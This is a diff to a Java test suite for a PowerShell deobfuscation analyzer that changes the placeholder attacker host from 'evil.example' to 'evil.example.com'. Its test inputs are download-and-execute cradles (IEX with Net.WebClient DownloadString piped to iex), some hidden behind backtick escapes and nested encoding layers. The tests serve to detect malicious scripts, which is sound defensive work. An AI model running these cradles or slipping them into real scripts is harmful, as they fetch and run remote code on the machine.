@@ -121,10 +121,10 @@ class DeobfuscationTest {
     @Test
     void backticksInsideWordsAreDropped() {
         ScriptAnalysis analysis = analyze(
-                "I`E`X (Ne`w-Ob`ject Net.WebClient).\"Down`l`oadString\"('http://evil.example/a.ps1')");
+                "I`E`X (Ne`w-Ob`ject Net.WebClient).\"Down`l`oadString\"('http://evil.example.com/a.ps1')");
 
         assertThat(analysis.decoded())
-                .isEqualTo("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')");
+                .isEqualTo("IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')");
         assertThat(undone(analysis)).containsExactly(Obfuscation.BACKTICK_ESCAPES);
     }
 
@@ -263,12 +263,12 @@ class DeobfuscationTest {
 
     @Test
     void aVariableAssignedOnceToAStringIsReplacedWhereItIsRead() {
-        ScriptAnalysis analysis = analyze("$u = 'http://evil.example/a.ps1'\n"
+        ScriptAnalysis analysis = analyze("$u = 'http://evil.example.com/a.ps1'\n"
                 + "(New-Object Net.WebClient).DownloadString($u) | iex\nWrite-Host \"fetched $u\"");
 
-        assertThat(analysis.decoded()).isEqualTo("$u = 'http://evil.example/a.ps1'\n"
-                + "(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1') | iex\n"
-                + "Write-Host \"fetched http://evil.example/a.ps1\"");
+        assertThat(analysis.decoded()).isEqualTo("$u = 'http://evil.example.com/a.ps1'\n"
+                + "(New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1') | iex\n"
+                + "Write-Host \"fetched http://evil.example.com/a.ps1\"");
         assertThat(undone(analysis)).containsExactly(Obfuscation.CONSTANT_VARIABLES);
     }
 
@@ -281,7 +281,7 @@ class DeobfuscationTest {
 
     @Test
     void nestedLayersAreUndoneOneRoundAtATime() {
-        String innermost = "(New-Object Net.WebClient).DownloadString('http://evil.example/stage2.ps1') | iex";
+        String innermost = "(New-Object Net.WebClient).DownloadString('http://evil.example.com/stage2.ps1') | iex";
         String charCoded = "iex " + Obfuscate.charCodes(innermost);
         String compressed = Obfuscate.gzipCradle(charCoded);
         String commandLine = Obfuscate.powershellEncoded(compressed);
